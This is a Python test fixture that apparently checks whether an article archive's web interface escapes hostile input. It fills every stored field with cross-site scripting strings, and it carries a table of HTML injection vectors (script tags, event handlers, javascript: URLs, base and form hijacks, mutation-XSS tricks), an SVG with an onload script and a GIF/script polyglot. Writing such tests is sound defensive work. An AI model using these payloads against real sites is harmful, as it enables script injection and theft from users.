"""A corpus of which every field attacks its reader, past all that cleans on the way in, with the number of the attack
in each; and a place elsewhere that notes who asks it for anything."""

# ruff: noqa: E501 - an attack a line
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

from tests.corpora import NOW, Archive, long_text
from warraq.articles.dedup import sign
from warraq.articles.ingest import Prepared, prepare
from warraq.articles.outcomes import Failed
from warraq.articles.records import (
    Article,
    Fetch,
    FieldOrigin,
    Image,
    Metadata,
    Page,
    RemovedBlock,
    StatedTime,
)
from warraq.storage import (
    FeedState,
    FetchRecord,
    ReadDocument,
    SeenEntry,
    Store,
    StoryFilter,
    Visit,
    open_store,
    poll_visit,
)

SITE = "https://evil.example/"
#: Attacks that stand in a field, by number: what controls it, and pages of the room that show it.
FIELDS: Mapping[int, tuple[str, tuple[str, ...]]] = {
    1: ("title", ("/", "/article/1", "/article/1/origin", "/search?q=harmaa")),
    2: ("author", ("/", "/article/1")),
    3: ("tag", ("/article/1",)),
    4: ("caption of an image", ("/article/1",)),
    5: ("alternative text of an image", ("/article/1",)),
    6: ("credit of an image", ("/article/1",)),
    7: ("licence that is a script", ("/article/1",)),
    8: ("text that was removed", ("/article/1?removed=1",)),
    9: ("rule that removed it", ("/article/1?removed=1",)),
    10: ("date as written", ("/article/1",)),
    11: ("place where the date was found", ("/article/1",)),
    12: ("text", ("/article/1?removed=1", "/article/1/versions?from=1&to=2", "/search?q=harmaa")),
    13: ("title of a feed's entry", ("/article/1/origin",)),
    14: ("identity of a feed's entry", ("/article/1/origin",)),
    15: ("date of a feed's entry", ("/article/1/origin",)),
    16: ("header of an answer", ("/article/1/origin",)),
    17: ("status line of an answer", ("/article/1/origin",)),
    18: ("title of a feed", ("/source/evil",)),
    19: ("reason for the next poll", ("/source/evil", "/sources")),
    20: ("name of a source", ("/", "/source/evil", "/sources", "/search?q=harmaa")),
    21: ("folder of a source", ("/sources", "/source/evil")),
    22: ("label", ("/", "/article/1")),
    23: ("note", ("/article/1",)),
    24: ("name of a header", ("/article/1/origin",)),
}  # fmt: skip
#: Attacks in the HTML of an article. {far}: the place elsewhere.
MARKUP: Mapping[int, tuple[str, str]] = {
    30: ("script", "<script>document.title='ran-30'</script><script src='{far}/ran-30'></script>"),
    31: ("handlers", "<p onclick='ran-30' onmouseover=\"document.title='ran-31'\"><img src=x onerror=\"document.title='ran-31'\">"),
    32: ("script: as address", "<a href='jAvascript:document.title=\"ran-32\"'>a</a><a href='java&#9;script:\"ran-32\"'>b</a>"),
    33: ("data: as address", "<a href='data:text/html,<script>opener.document.title=\"ran-33\"</script>'>a</a><img src='data:image/svg+xml,<svg onload=\"ran-33\"/>'>"),
    34: ("frames", "<iframe src='{far}/ran-34'></iframe><iframe srcdoc=\"<script>top.document.title='ran-34'</script>\"></iframe>"),
    35: ("plug-ins", "<object data='{far}/ran-35'></object><embed src='{far}/ran-35'><applet code='ran-35'></applet>"),
    36: ("base", "<base href='{far}/ran-36/'><math><mtext><base href='{far}/ran-36/'></mtext></math>"),
    37: ("hijacked forms", "</form><form action='{far}/ran-37'><input name=token><button>Go</button></form><button form=x formaction='{far}/ran-37'>b</button>"),
    38: ("meta refresh", "<meta http-equiv=refresh content='0;url={far}/ran-38'>"),
    39: ("style", "<p style=\"background:url('{far}/ran-39')\"><style>@import '{far}/ran-39'; body{{display:none}}</style>"),
    40: ("links of the head", "<link rel=stylesheet href='{far}/ran-40'><link rel=prefetch href='{far}/ran-40'><link rel=preconnect href='{far}/ran-40'>"),
    41: ("SVG", "<svg onload=\"document.title='ran-41'\"><style><img src=x onerror=\"document.title='ran-41'\"></style><script>1</script><use href='{far}/ran-41#x'/></svg>"),
    42: ("MathML", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=document.title='ran-42'&gt;\"></mglyph></table></mtext></math>"),
    43: ("noscript", "<noscript><p title=\"</noscript><img src=x onerror=document.title='ran-43'>\"></noscript>"),
    44: ("raw text", "<textarea></textarea><title></title><xmp><p title=\"</xmp><img src=x onerror=document.title='ran-44'>\"></xmp>"),
    45: ("picture elsewhere", "<img src='{far}/ran-45' srcset='{far}/ran-45 2x'><picture><source srcset='{far}/ran-45'></picture>"),
    46: ("media", "<video src='{far}/ran-46' poster='{far}/ran-46'></video><audio src='{far}/ran-46'></audio><input type=image src='{far}/ran-46'><table background='{far}/ran-46'>"),
    47: ("pings and targets", "<a id=out href='{far}/out' target=_blank rel=opener ping='{far}/ran-47'>leads-out</a>"),
    48: ("names of ours", "<p id=main class=problem>x</p><a id=top name=ran-48 href='https://x.example/'>x</a><form id=ran-48 name=body></form>"),
    49: ("templates and dialogs", "<template shadowrootmode=open><img src=x onerror=\"document.title='ran-49'\"></template><dialog open>ran-49</dialog><details open ontoggle=\"document.title='ran-49'\">x</details>"),
    50: ("comments and sections", "<!--><img src=x onerror=\"document.title='ran-50'\">--><![CDATA[><img src=x onerror=\"document.title='ran-50'\">]]>"),
    51: ("links to our own acts", "<a href='/logout#ran-51'>a</a><a href='//evil.example/ran-51'>b</a><a href='../ran-51'>c</a><a href='?ran-51'>d</a>"),
}  # fmt: skip

PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 20
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'ran-60\'"><script>1</script></svg>'
#: A GIF to those who look at its first bytes, a script and a page to those who do not.
POLYGLOT = b"GIF89a/*<script>document.title='ran-61'</script>*/=1;document.title='ran-61'//"
PAGE = b"<!DOCTYPE html><title>x</title><script>document.title='ran-62'</script><img src=x onerror=\"document.title='ran-62'\">"


#: The article whose page costs most to try rules on: where a selector, a word or a pattern is tried at each place with
#: each of the others, it is for ever.
COSTLY = 2 + len(MARKUP)
_RUN = "a" * 900 + "!"


def words(number: int) -> str:
    """What stands in a field: it leaves an attribute, an element, a form's field and a script, and runs, if it is let."""
    return f"\"'></script></title></textarea><img src=x onerror=\"document.title='ran-{number}'\"><b>mark-{number}"


def write_evil(path: Path, far: str) -> Path:
    """One article of two versions, its feed, its source, what its reader wrote; three pictures and a page."""
    with open_store(path, create=True) as store:
        archive = Archive(store)
        source = archive._source("evil.example")
        store.sources.update(replace(source, name=words(20), folder=words(21)), now=NOW)
        feed = store.feeds.add(_feed(source.id))
        _poll(archive, feed)
        article = _article()
        _put(archive, article)
        _put(archive, replace(article, text=f"{article.text} And {words(12)} more."))
        for number, (_, markup) in MARKUP.items():
            _put(archive, _marked_up(number, markup.format(far=far)))
        _put_costly(archive)
        for name, body, kind in (
            ("one.png", PNG, "image/png"), ("two.svg", SVG, "image/svg+xml"), ("three.gif", POLYGLOT, "image/gif"),
        ):  # fmt: skip
            _keep(archive, f"{SITE}{name}", body, kind)
        archive.finish()
        store.reading.label([1], add=[f"{words(22)[:99]}"], remove=[], now=NOW)
        store.reading.note(1, words(23), now=NOW)
        store.searches.save("evil", StoryFilter(query="harmaa"), title=words(25), now=NOW)
    return path


def _article() -> Article:
    images = (
        Image(url=f"{SITE}one.png", alt=words(5)),
        Image(url=f"{SITE}two.svg", alt="two", caption=words(4), credit=words(6)),
        Image(url="javascript:document.title='ran-4'", caption="x"),
    )
    said = Metadata(
        title=words(1), authors=(words(2),), tags=(words(3),), language="en", site_name=words(0), description=words(0),
        published=StatedTime(at=datetime(2026, 2, 3, tzinfo=UTC), raw=words(10)), images=images,
        licence=f"javascript:document.title='ran-7'//{words(7)}", declared_url="javascript:document.title='ran-7'",
        origins=(FieldOrigin(field="published", origin="meta", raw=words(10), place=words(11)),),
    )  # fmt: skip
    return Article(
        url=f"{SITE}x", metadata=said, text=f"First {words(12)}\n\n{long_text('harm')}", html="<p>x</p>", markdown="",
        words=200, extractor="test-1",
        removed=(RemovedBlock(position=1, kind="share", rule=words(9), text=words(8)),),
    )  # fmt: skip


def _marked_up(number: int, markup: str) -> Article:
    """Each in an article of its own: some hide all that follows."""
    subject = "".join(chr(97 + int(digit)) for digit in str(number))
    return Article(
        url=f"{SITE}{number}", metadata=Metadata(title=f"Markup {number}", language="en"), text=long_text(subject),
        html=f"<p>mark-{number}</p><p>before</p>{markup}", markdown="", words=200, extractor="test-1",
    )  # fmt: skip


def _put_costly(archive: Archive) -> None:
    """Its text is what extraction makes of it, so that rules which change nothing leave it as stored."""
    text = "".join(f"<p>{part}</p>" for part in long_text("cost").split("\n\n"))
    deep = "<div>" * 60 + "<i>x</i>" * 1_500 + "</div>" * 60
    body = f"<!DOCTYPE html><html lang=en><title>Costly</title><article><h1>Costly</h1>{text}<p>{_RUN}</p>{deep}</article>"
    visit = Visit(source_id=1, url=SITE + _RUN, host="evil.example", role="article")
    record = _record(archive, visit, body=body.encode())
    page = Page(
        url=visit.url, final_url=visit.url, status=200, headers=record.fetch.headers, body=body.encode(),
        fetched_at=record.fetch.started_at,
    )  # fmt: skip
    archive.store.fetches.commit_article(record, prepare(page))


def article_of(number: int) -> str:
    """The page of the article with this markup."""
    return f"/article/{2 + list(MARKUP).index(number)}"


def _feed(source_id: int) -> FeedState:
    return FeedState(
        source_id=source_id, url=f"{SITE}feed", kind="feed", title=words(18), last_error="http-404", last_status=404,
        failures=3, last_poll_at=NOW, next_poll_at=NOW, next_poll_reason=words(19),
    )  # fmt: skip


def _poll(archive: Archive, feed: FeedState) -> None:
    entry = SeenEntry(
        identity=words(14), url=f"{SITE}x", title=words(13), published="2026-02-03T00:00:00Z", published_raw=words(15),
        published_parser="rfc822", published_confidence=0.9, fingerprint="x",
    )  # fmt: skip
    archive.store.fetches.commit_read(
        _record(archive, poll_visit(feed)), ReadDocument(feed=feed, entries=[entry])
    )
    failed = _record(archive, poll_visit(feed), status=404)
    archive.store.fetches.commit_failed(failed, Failed(error="http-404", detail=words(19)))


def _put(archive: Archive, article: Article) -> None:
    visit = Visit(source_id=1, url=article.url, host="evil.example", role="article")
    record = _record(archive, visit, body=PAGE)
    prepared = Prepared(article=article, signature=sign(article.text, article.metadata.title))
    archive.store.fetches.commit_article(record, prepared)


def _keep(archive: Archive, url: str, body: bytes, media_type: str) -> None:
    visit = Visit(source_id=1, url=url, host="evil.example", role="image", reason="image")
    archive.store.fetches.commit_image(_record(archive, visit, body=body), media_type=media_type)


def _record(archive: Archive, visit: Visit, *, status: int = 200, body: bytes | None = None) -> FetchRecord:
    store: Store = archive.store
    store.frontier.add([visit], now=archive.moment)
    leased = store.frontier.lease_url(archive.run, visit.url)
    assert leased is not None
    fetch = Fetch(
        url=visit.url, final_url=visit.url, status=status, started_at=archive.moment, bytes=len(body or b""),
        status_line=f"HTTP/1.1 200 {words(17)}", headers=(("etag", words(16)), (words(24), "x")),
    )  # fmt: skip
    return FetchRecord(run_id=archive.run, visit=leased, fetch=fetch, body=body)


@dataclass
class Elsewhere:
    """A site of somebody else on loopback. `pages`: what it answers, by path; `asked`: what was asked, with headers."""

    address: str
    pages: dict[str, str] = field(default_factory=dict)
    asked: list[tuple[str, dict[str, str]]] = field(default_factory=list)


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    """The site, until the block ends."""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # the name is given
            place.asked.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
            body = place.pages.get(self.path.partition("?")[0], "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815 - the name is given

        def log_message(self, *_: object) -> None:
            """Says nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    place = Elsewhere(address=f"http://127.0.0.1:{server.server_port}")
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield place
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
